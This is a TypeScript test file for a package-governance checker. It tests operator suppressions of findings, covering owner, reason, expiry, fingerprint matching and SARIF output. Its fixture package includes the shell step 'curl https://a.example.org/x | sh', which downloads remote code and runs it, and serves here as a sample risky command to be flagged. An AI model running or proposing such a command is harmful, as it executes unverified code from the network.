import { writeFileSync } from 'node:fs'
import { mkdtemp } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { expect } from 'chai'
import { judge } from '../../../consumers/governance/judge.ts'
import { sarifOf } from '../../../consumers/governance/sarif.ts'
import { readSuppressions, withSuppressions } from '../../../consumers/governance/suppressions.ts'
import { bytesOf, packageWith, shell } from './packages.ts'

const entry = { owner: 'ops@atom.example', reason: 'installer of the vendor, read on 3 May', expires: '2026-05-31' }

describe('findings that the operator accepts', () => {
  const wpk = packageWith([shell('make'), shell('curl https://a.example.org/x | sh')])
  const verdictOf = () => judge(bytesOf(wpk), wpk, { usable: false, reason: 'not there' })

  it('are marked with owner, reason and day, and change neither risk nor decision', async () => {
    const verdict = await verdictOf()
    const [found] = verdict.violations
    const list = [{ rule_id: found?.rule_id ?? '', fingerprint: found?.fingerprint ?? '', ...entry }]
    const marked = withSuppressions(verdict, list, new Date('2026-05-31T23:00:00Z'))
    expect(marked.violations[0]?.suppressed).to.deep.equal(entry)
    expect(marked.violations.slice(1).every(({ suppressed }) => suppressed === undefined)).to.equal(true)
    expect(marked).to.include({ risk_score: verdict.risk_score, decision: verdict.decision })
    const log = sarifOf(marked) as { runs: { results: { suppressions?: unknown[] }[] }[] }
    expect(log.runs[0]?.results[0]?.suppressions).to.have.length(1)
    expect(log.runs[0]?.results[0]?.suppressions?.[0]).to.include({ kind: 'external', justification: entry.reason })
  })

  it('count no longer after their day, nor for another rule or fact', async () => {
    const verdict = await verdictOf()
    const [found] = verdict.violations
    const own = { rule_id: found?.rule_id ?? '', fingerprint: found?.fingerprint ?? '', ...entry }
    for (const [one, day] of [
      [own, '2026-06-01'],
      [{ ...own, rule_id: 'WPK-P1-001' }, '2026-05-01'],
      [{ ...own, fingerprint: 'f'.repeat(64) }, '2026-05-01'],
    ] as const)
      expect(withSuppressions(verdict, [one], new Date(day)).violations.some(({ suppressed }) => suppressed)).to.equal(
        false,
      )
  })

  it('follow a finding to another place', async () => {
    const [found] = (await verdictOf()).violations
    const moved = packageWith([shell('curl  https://a.example.org/x | sh'), shell('ls'), shell('make')])
    const verdict = await judge(bytesOf(moved), moved, { usable: false, reason: 'not there' })
    const list = [{ rule_id: found?.rule_id ?? '', fingerprint: found?.fingerprint ?? '', ...entry }]
    expect(withSuppressions(verdict, list, new Date('2026-05-01')).violations[0]).to.have.property('suppressed')
  })

  it('are read from the policy file, which must name owner, reason and day', async () => {
    expect(readSuppressions()).to.be.an('array')
    const file = join(await mkdtemp(join(tmpdir(), 'atom-')), 'list.json')
    const url = pathToFileURL(file)
    const full = { rule_id: 'WPK-P2-005', fingerprint: 'a'.repeat(64), ...entry }
    writeFileSync(file, JSON.stringify({ suppressions: [full] }))
    expect(readSuppressions(url)).to.deep.equal([full])
    for (const missing of ['owner', 'reason', 'expires', 'fingerprint']) {
      writeFileSync(file, JSON.stringify({ suppressions: [{ ...full, [missing]: undefined }] }))
      expect(() => readSuppressions(url), missing).to.throw()
    }
  })
})
